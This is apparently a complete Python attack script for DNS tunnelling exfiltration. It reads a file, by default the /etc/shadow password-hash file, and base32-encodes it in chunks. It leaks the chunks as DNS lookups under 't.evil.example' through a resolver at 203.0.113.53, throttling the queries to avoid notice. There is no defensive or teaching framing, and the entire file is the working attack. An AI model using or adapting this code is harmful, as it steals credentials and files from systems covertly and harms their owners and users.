import base64, sys, time
import dns.resolver

ZONE = "t.evil.example"
resolver = dns.resolver.Resolver()
resolver.nameservers = ["203.0.113.53"]

def chunks(b, n=30):
    for i in range(0, len(b), n):
        yield b[i:i + n]

def exfil(path):
    raw = open(path, "rb").read()
    for n, c in enumerate(chunks(raw)):
        label = base64.b32encode(c).decode().rstrip("=").lower()
        try:
            resolver.resolve(f"{n}.{label}.{ZONE}", "A")  # egress sensitive
        except dns.resolver.NXDOMAIN:
            pass
        time.sleep(0.2)

exfil(sys.argv[1] if len(sys.argv) > 1 else "/etc/shadow")
